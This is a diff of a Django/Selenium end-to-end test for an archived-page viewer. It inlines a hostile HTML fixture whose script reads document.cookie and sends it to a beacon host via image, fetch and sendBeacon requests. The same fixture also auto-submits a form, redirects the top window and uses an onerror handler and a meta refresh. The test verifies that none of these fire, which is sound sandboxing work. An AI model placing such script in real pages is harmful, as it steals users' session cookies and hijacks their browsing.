@@ -12,13 +12,40 @@ from django.urls import reverse
 from selenium.webdriver.common.by import By
 from selenium.webdriver.support import expected_conditions as ec
 
-from snapshots.links import services
+from tests.factories import make_link, make_stored_snapshot
 from tests.pages.server import FixtureServer
-from tests.sharing.fabricate import hostile_html, snapshot_with_artifacts
 from tests.support.browser import become, chromium, wait
 from tests.support.pageserver import hits
 
 pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
+
+
+def hostile_html(beacon_origin: str) -> str:
+    """An archived page that tries to read cookies, phone home, submit a form and take the top window."""
+    return f"""<!doctype html><html><head><meta charset="utf-8"><title>敌意页面</title>
+<link rel="stylesheet" href="{beacon_origin}/style.css">
+<script src="{beacon_origin}/tracker.js"></script>
+<style>body{{font-family:sans-serif}} .bg{{background:url({beacon_origin}/bg.png)}}</style>
+</head><body class="bg">
+<h1 id="heading">2025年统计报告</h1>
+<p id="leak">untouched</p>
+<table><tr><th>项目</th><th>数值</th></tr><tr><td>GDP</td><td>1,234.5</td></tr></table>
+<img src="{beacon_origin}/x.png" alt="remote">
+<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">
+<iframe src="{beacon_origin}/frame.html"></iframe>
+<form id="f" action="{beacon_origin}/submit" method="post"><input name="q" value="1"></form>
+<script>
+document.getElementById('leak').textContent = 'cookie:' + document.cookie;
+document.title = 'pwned ' + document.cookie;
+new Image().src = '{beacon_origin}/beacon?c=' + encodeURIComponent(document.cookie);
+fetch('{beacon_origin}/fetch?c=' + encodeURIComponent(document.cookie)).catch(function(){{}});
+navigator.sendBeacon && navigator.sendBeacon('{beacon_origin}/sendbeacon', document.cookie);
+try {{ top.location = '{beacon_origin}/redirect'; }} catch (e) {{}}
+document.getElementById('f').submit();
+</script>
+<img src="x" onerror="new Image().src='{beacon_origin}/onerror'">
+<meta http-equiv="refresh" content="0;url={beacon_origin}/refresh">
+</body></html>"""
 
 
 @pytest.fixture
@@ -41,8 +68,8 @@ def frame_is_loaded(driver) -> bool:
 
 
 def test_hostile_archive_makes_no_requests_and_reads_no_cookie(live_server, owner, beacon_server):
-    link = services.link_create(owner=owner, url="https://evil.example.com/", tags=["报告"], capture=False)
-    snapshot = snapshot_with_artifacts(link, html=hostile_html(beacon_server.origin), title="敌意页面")
+    link = make_link(owner, "https://evil.example.com/", tags=["报告"])
+    snapshot = make_stored_snapshot(link, html=hostile_html(beacon_server.origin), title="敌意页面")
     viewer = live_server.url + reverse("snapshots:snapshot_detail", args=[snapshot.pk])
     with chromium() as driver:
         become(driver, live_server.url, owner)
